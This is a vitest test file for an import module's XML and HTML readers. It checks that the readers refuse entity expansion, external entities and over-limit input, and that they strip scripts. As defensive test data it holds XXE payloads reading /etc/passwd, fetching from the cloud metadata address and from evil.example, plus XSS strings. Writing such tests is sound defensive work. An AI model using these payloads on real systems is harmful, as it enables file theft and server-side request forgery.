import { describe, expect, it } from 'vitest'

import { htmlText } from '@/domain/imports/html-text'
import { IMPORT_LIMITS } from '@/domain/imports/import-limits'
import { ImportFileError } from '@/domain/imports/import-reasons'
import { readPage } from '@/domain/imports/read-page'
import { readSourceTable } from '@/domain/imports/read-source-table'
import { readXml } from '@/domain/imports/read-xml'
import { readingTime } from '@/domain/imports/reading-time'

/** What somebody writes to make a reader of XML fetch, grow or stop: refused, each with a reason of its own. */

const reasonOf = (read: () => unknown): unknown => {
  try {
    read()
  } catch (error) {
    if (error instanceof ImportFileError) return error.reason
    throw error
  }
  return 'none'
}

const fileReason = (text: string) => reasonOf(() => readSourceTable(new TextEncoder().encode(text)))

const job = (inside: string) => `<jobs><job><title>Master</title>${inside}</job></jobs>`

describe('XML', () => {
  it.each([
    [
      'entities that double each other',
      '<!DOCTYPE jobs [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;"><!ENTITY c "&b;&b;&b;">]>',
    ],
    ['a file of the machine', '<!DOCTYPE jobs [<!ENTITY x SYSTEM "file:///etc/passwd">]>'],
    ['an address of the network', '<!DOCTYPE jobs SYSTEM "http://169.254.169.254/latest">'],
    ['a parameter', '<!DOCTYPE jobs [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]>'],
    ['types alone', '<!DOCTYPE jobs>'],
  ])('that declares %s is not read', (_what, doctype) => {
    expect(fileReason(`<?xml version="1.0"?>${doctype}${job('<a>&x;&c;</a>')}`)).toBe(
      'xmlDeclaresTypes',
    )
  })

  it.each(['&x;', '&constructor;', '&__proto__;', '&#0;', '& ', '<b>', '</c>', '\u0001'])(
    'that is not well-formed is not guessed at: %j',
    (broken) => {
      expect(fileReason(job(`<text>${broken}</text>`))).toBe('xmlBroken')
    },
  )

  it('says the line of its mistake', () => {
    try {
      readXml('<jobs>\n<job>\n<title>Master</titel>\n</job></jobs>')
      expect.unreachable()
    } catch (error) {
      expect(error).toMatchObject({ reason: 'xmlBroken', details: { row: 3 } })
    }
  })

  it('may use the names that HTML has for characters: they are a fixed list', () => {
    const { rows } = readXml(job('<text>a&nbsp;b &ndash; c &amp;lt;</text>'))
    expect(rows[0]?.cells.text).toBe('a b – c <')
  })

  const { attributes, cell, columns, elementDepth, elements, markup, name, places, rows } =
    IMPORT_LIMITS

  it.each([
    ['xmlTooDeep', job('<a>'.repeat(elementDepth) + '</a>'.repeat(elementDepth))],
    ['xmlTooManyElements', `<jobs>${'<job/>'.repeat(elements)}</jobs>`],
    [
      'xmlTooManyElements',
      `<jobs>${Array.from({ length: places }, (_, at) => `<a${at}/>`).join('')}</jobs>`,
    ],
    [
      'xmlTooManyAttributes',
      job(`<a ${Array.from({ length: attributes + 1 }, (_, at) => `a${at}=""`).join(' ')}/>`),
    ],
    ['xmlTextTooLong', job(`<a b="${'x'.repeat(cell + 1)}"/>`)],
    ['xmlTextTooLong', job(`<${'n'.repeat(name + 1)}/>`)],
    ['xmlTextTooLong', job(`<a ${'n'.repeat(name + 1)}=""/>`)],
    ['xmlTextTooLong', job(`<a>${'x'.repeat(markup + 1)}</a>`)],
    ['xmlTextTooLong', job(`<a><![CDATA[${'x'.repeat(markup + 1)}]]></a>`)],
    ['cellTooLong', job(`<a>${'x'.repeat(cell + 1)}</a>`)],
    ['tooManyRows', `<jobs>${'<job><t>b</t></job>'.repeat(rows + 1)}</jobs>`],
    [
      'tooManyColumns',
      job(Array.from({ length: columns + 1 }, (_, at) => `<a${at}>b</a${at}>`).join('')),
    ],
    ['xmlWithoutList', '<Error><Code>AccessDenied</Code></Error>'],
    ['xmlWithoutList', '<jobs></jobs>'],
    ['pageWithoutPostings', '<!doctype html><title>Sign in</title><form></form>'],
    [
      'pageTooManyParts',
      `<html>${'<script type="application/ld+json">{}</script>'.repeat(IMPORT_LIMITS.dataParts + 1)}`,
    ],
    ['jsonBroken', '<html><script type="application/ld+json">{"@type":"JobPosting",}</script>'],
    [
      'jsonTooDeep',
      `<html><script type="application/ld+json">${'[{"a":'.repeat(30)}"JobPosting"</script>`,
    ],
  ])('beyond a limit has a reason of its own: %s', (reason, text) => {
    expect(fileReason(text)).toBe(reason)
  })

  it('at a limit is read', () => {
    const attribute = Array.from({ length: attributes }, (_, at) => `a${at}="b"`).join(' ')
    expect(fileReason(job(`<a ${attribute}>${'x'.repeat(cell)}</a>`))).toBe('none')
  })

  it('that takes too long is ended', () => {
    let now = 0
    const late = readingTime(() => (now += (IMPORT_LIMITS.seconds * 1_000) / 3))
    const long = job(`<a>${'<b/>'.repeat(100_000)}</a>`)
    expect(reasonOf(() => readXml(long, late))).toBe('readingTooLong')
    expect(
      reasonOf(() =>
        readPage(
          `<html>${PART.repeat(10)}`,
          readingTime(() => (now += 4_000)),
        ),
      ),
    ).toBe('readingTooLong')
  })

  it('has no name that every object has', () => {
    const { rows: read } = readXml(
      '<jobs><job><__proto__>a</__proto__><constructor>b</constructor></job></jobs>',
    )
    expect(Object.getPrototypeOf(read[0]?.cells)).toBe(Object.prototype)
    expect(Object.values(read[0]?.cells ?? {})).toEqual(['a', 'b'])
  })
})

const PART = '<script type="application/ld+json">{"@type":"JobPosting"}</script>'

describe('markup in a text', () => {
  it.each([
    ['<p>One</p><p>Two</p>', 'One\n\nTwo'],
    ['Line one<br>Line two', 'Line one\nLine two'],
    ['<ul><li>A</li><li>B</li></ul>', '- A\n- B'],
    ['<script>alert(1)</script>Text<style>p{}</style>', 'Text'],
    ['<SCRIPT\n>alert(1)</SCRIPT >Text', 'Text'],
    ['<img src=x onerror=alert(1)>Text', 'Text'],
    ['<a href="javascript:alert(1)">here</a>', 'here'],
    ['Text<!-- <b>hidden</b> -->', 'Text'],
    ['Text<script>never closed', 'Text'],
    ['Text<!-- never closed', 'Text<!-- never closed'],
    ['&lt;p&gt;Escaped &amp;amp; read&lt;/p&gt;', 'Escaped & read'],
    ['&lt;script&gt;alert(1)&lt;/script&gt;', ''],
    ['DWT < 5000 and > 10 men', 'DWT < 5000 and > 10 men'],
    ['Tom &amp; Jerry&#39;s &#x2013; &#xd800; &unknown;', "Tom & Jerry's – &#xd800; &unknown;"],
    ['no markup\nat all', 'no markup\nat all'],
    ['<b>Bold</b>\nand lines', 'Bold\nand lines'],
    ['<table><tr><td>Flag</td><td>Malta</td></tr></table>', 'Flag Malta'],
  ])('%j is %j', (html, text) => {
    expect(htmlText(html)).toBe(text)
  })

  it.each(['<', '<!--', '<script', '<script>', '</script', '<a "', '&lt;', '&#', '<p>'])(
    'costs no more than its length: %s',
    (piece) => {
      const time = (length: number) => {
        const html = piece.repeat(Math.ceil(length / piece.length))
        const start = performance.now()
        htmlText(html)
        return performance.now() - start
      }
      time(IMPORT_LIMITS.markup)
      expect(Math.min(...[1, 2, 3].map(() => time(IMPORT_LIMITS.markup)))).toBeLessThan(500)
    },
  )
})
